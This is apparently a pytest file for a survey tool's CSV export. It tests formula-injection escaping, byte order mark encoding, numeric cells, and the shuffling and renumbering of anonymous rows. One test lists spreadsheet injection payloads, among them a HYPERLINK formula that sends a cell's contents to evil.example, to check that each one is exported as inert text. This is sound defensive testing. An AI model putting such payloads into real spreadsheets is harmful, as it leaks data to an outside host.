"""The CSV export is safe to open in a spreadsheet and keeps anonymous rows unlinkable."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from bot.export import shuffled, write_csv
from conversations.checks import read_survey
from storage.records import AnswerRow, ResponseRow

SURVEYS = Path(__file__).resolve().parent.parent / "surveys"


def survey(name: str):
    path = SURVEYS / f"{name}.yaml"
    return read_survey(path.read_text(encoding="utf-8"), source=str(path)).survey


def csv_of(survey, rows) -> bytes:
    out = io.BytesIO()
    write_csv(survey, rows, out)
    return out.getvalue()


def table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def rows(responses: list[ResponseRow], answers: list[AnswerRow]):
    """Responses with their answers, as Storage.export hands them to the CSV."""
    return [(r, [a for a in answers if a.response_id == r.id]) for r in responses]


def test_a_formula_typed_as_an_answer_is_text_in_a_spreadsheet() -> None:
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3+cmd", "@SUM(A1)"]
    attacks += ["\tTAB", "\rCR"]
    library = survey("library-services")
    responses = [ResponseRow(n, "completed", None) for n in range(1, len(attacks) + 1)]
    answers = [AnswerRow(n, "improve", text) for n, text in enumerate(attacks, start=1)]
    header, *exported = table(csv_of(library, rows(responses, answers)))
    cells = [row[header.index("improve")] for row in exported]
    assert cells == ["'" + text for text in attacks]


def test_the_file_opens_with_a_byte_order_mark_and_keeps_nordic_letters() -> None:
    library = survey("library-services")
    data = csv_of(
        library,
        rows(
            [ResponseRow(1, "completed", None)],
            [AnswerRow(1, "improve", "Enemmän äänikirjoja, så")],
        ),
    )
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Enemmän äänikirjoja, så" in data.decode("utf-8-sig")


def test_numbers_stay_numbers() -> None:
    library = survey("library-services")
    data = table(
        csv_of(
            library, rows([ResponseRow(1, "completed", None)], [AnswerRow(1, "satisfaction", 4)])
        )
    )
    assert data[1][data[0].index("satisfaction")] == "4"


def test_anonymous_rows_are_numbered_as_they_come_not_by_response_id() -> None:
    home_care = survey("home-care")
    assert home_care.anonymous
    order = (13, 11, 15, 12, 14)  # as Storage.export's shuffle handed them over
    responses = [ResponseRow(rid, "completed", 3600.0) for rid in order]
    answers = [AnswerRow(rid, "visits_per_week", rid) for rid in order]
    header, *exported = table(csv_of(home_care, rows(responses, answers)))
    column = header.index("visits_per_week")
    assert [row[0] for row in exported] == ["1", "2", "3", "4", "5"]  # numbered anew
    assert [row[column] for row in exported] == ["13", "11", "15", "12", "14"]


def test_an_anonymous_export_is_shuffled_anew_each_time() -> None:
    ids = list(range(1, 101))
    first, second = ids.copy(), ids.copy()
    shuffled(first)
    shuffled(second)
    assert sorted(first) == ids
    assert first != ids
    assert first != second


def test_each_row_says_its_language_channel_completeness_and_who_typed_it() -> None:
    library = survey("library-services")
    responses = [
        ResponseRow(1, "completed", 3600.0, "fi", "web"),
        ResponseRow(2, "answering", None, "en", "slack"),
    ]
    answers = [
        AnswerRow(1, "visits", "weekly", "intermediary"),
        AnswerRow(1, "improve", None, "intermediary"),
        AnswerRow(2, "visits", "monthly"),
    ]
    header, first, second = table(csv_of(library, rows(responses, answers)))
    row = dict(zip(header, first, strict=True))
    assert (row["complete"], row["language"], row["channel"], row["given_by"]) == (
        "completed",
        "fi",
        "web",
        "intermediary",
    )
    assert (row["improve"], row["satisfaction"]) == ("[skipped]", "")  # skipped, not reached
    row = dict(zip(header, second, strict=True))
    assert (row["status"], row["complete"], row["given_by"]) == (
        "answering",
        "partial",
        "participant",
    )
